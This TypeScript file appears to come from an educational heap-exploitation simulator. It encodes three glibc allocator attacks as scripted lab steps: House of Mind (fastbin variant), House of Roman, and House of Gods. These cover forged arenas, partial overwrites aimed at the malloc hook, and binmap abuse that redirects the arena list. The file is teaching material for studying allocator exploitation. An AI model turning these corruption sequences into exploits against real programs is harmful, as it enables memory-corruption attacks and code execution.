/** The arena's struct, and what the C library keeps beside it: forged, reached through bins, or written over. */
import { MAIN_ARENA } from '../../heap/index.ts';
import { needsFastbins, type Technique } from '../technique.ts';

export const houseOfMindFastbin: Technique = {
  name: 'house_of_mind_fastbin',
  what: 'Flag A makes free look for the arena at the last 64 MiB border: there stands a forged one.',
  needs: 'an overflow by one byte into a size; a heap of more than 64 MiB',
  corrupts: "a block's flag A; a forged heap_info and arena",
  gains: "a block's address written at a place of choice",
  scope: 'whole',
  large: true,
  notOn: needsFastbins,
  run(lab) {
    const { state } = lab.facts.profile;
    const border = 0x400_0000;
    lab.say('More than 64 MiB in the main arena.');
    lab.forbidMappings();
    const large = lab.malloc(border + 0x2000, 'large');
    const toBorder = border - (large.pointer % border);
    const victim = lab.malloc(0x58, 'victim');
    if (lab.facts.fillers > 0) lab.freeMany(lab.mallocMany(lab.facts.fillers, 0x58));
    lab.malloc(0x18, 'guard');
    lab.say('At the border: a heap_info that names an arena; there, a size of memory that free believes.');
    const arena = toBorder + 0x100;
    lab.writeAddress(large, toBorder, large, arena);
    lab.write(large, arena + state.systemMem, 0x1000_0000);
    lab.say('One byte too many in the block before, and victim belongs to that arena.');
    lab.write(victim, -0x8, 0x60 + 4 + 1);
    lab.free(victim);
    const slot = arena + state.fastbins + 8 * (0x60 / 16 - 2);
    lab.proveAddress(
      "the address of victim stands in what was the large block's",
      large,
      slot,
      victim,
      -0x10,
    );
  },
};

export const houseOfRoman: Technique = {
  name: 'house_of_roman',
  what: 'Low bytes lead a fastbin to the malloc hook, an unsorted attack puts an address there, low bytes choose it.',
  needs: 'writes of one and two bytes after free; no address',
  corrupts: "low bytes of a fastbin's fd and of an old link; an unsorted chunk's bk; the hook",
  gains: "an address of choice in the malloc hook (calling it is not the heap's)",
  scope: 'heap half',
  run(lab) {
    const request = 0x68;
    const hook = lab.library(MAIN_ARENA - 0x10, 'hook');
    lab.say(
      "In the C library's data the hook lies before the arena, behind a word that reads as the size 0x7f.",
    );
    lab.heap.poke(lab.real(hook, -0x18), 0x7fn);
    const link = lab.malloc(request, 'link');
    const spare = lab.malloc(request, 'spare');
    const victim = lab.malloc(0x4f8, 'victim');
    lab.malloc(0x18, 'guard');
    const attacked = lab.malloc(0x4f8, 'attacked');
    lab.malloc(0x18, 'guard2');
    const fillers = lab.mallocMany(lab.facts.fillers, request);
    lab.free(victim);
    lab.say('Cut from a free chunk, leftover still holds its links into the C library.');
    const leftover = lab.malloc(request, 'leftover');
    lab.say('An unsorted attack puts an address of the C library into the hook.');
    lab.malloc(0x608, 'sorter');
    lab.free(attacked);
    lab.writeAddress(attacked, 0x8, hook, -0x10);
    lab.malloc(0x4f8, 'taken');
    lab.proveArenaAddress('an address of the C library stands in the hook', hook, 0);
    if (fillers.length > 0) lab.freeMany(fillers);
    lab.free(spare);
    lab.free(link);
    lab.say(
      'By two bytes link -> spare becomes link -> leftover; by two more leftover -> bins becomes leftover -> hook.',
    );
    lab.writeLowBytes(link, 0, 2, leftover, -0x10);
    lab.writeLowBytes(leftover, 0, 2, hook, -0x20);
    lab.calloc(request, 'first');
    lab.calloc(request, 'second');
    const won = lab.calloc(request, 'won');
    lab.say('The block lies over the hook: two bytes choose where its address leads.');
    const chosen = lab.library(MAIN_ARENA + 0x18, 'chosen');
    lab.writeLowBytes(won, 0x10, 2, chosen);
    lab.prove('the hook holds the chosen address', hook, 0, (word, places) => word === places.arena + 0x18n);
  },
};

export const houseOfGods: Technique = {
  name: 'house_of_gods',
  what: 'The map of bins, as a number, is a size: an unsorted link brings out a block over the struct of the arena.',
  needs: "a write after free; the arena's address",
  corrupts: "an unsorted chunk's bk; then the list of arenas",
  gains: 'the pointer to the next arena is of choice (the thread would have to change arenas to use it)',
  scope: 'heap half',
  run(lab) {
    const { profile, fillers } = lab.facts;
    // Index of a small bin, whose bit in the map is the size that will be asked for.
    const index = 11;
    const small = lab.malloc(16 * index - 8, 'small');
    lab.malloc(0x18, 'g1');
    const large = lab.malloc(0x508, 'large');
    lab.malloc(0x18, 'g2');
    const blocks = lab.mallocMany(fillers, 16 * index - 8);
    if (fillers > 0) lab.freeMany(blocks);
    lab.free(small);
    lab.say(`Sorted, small sets bit ${index} of the map: 0x${(2 ** index).toString(16)}.`);
    lab.malloc(0x608, 'sorter');
    lab.free(large);
    lab.say('Seen as a chunk, the map is followed by a bk already: the pointer to the next arena.');
    const map = lab.library(MAIN_ARENA + profile.state.binmap - 8, 'map');
    lab.writeAddress(large, 0x8, map);
    const won = lab.malloc(2 ** index - 8, 'won');
    lab.say('The block lies over the map of bins and what follows it: the list of arenas.');
    const arena = lab.library(MAIN_ARENA, 'arena');
    lab.proveSame('the block lies over the arena', won, arena, 0, profile.state.binmap + 8);
    lab.writeAddress(won, profile.state.next - profile.state.binmap - 8, small);
    lab.proveAddress('the next arena is a block of the heap', arena, profile.state.next, small);
  },
};
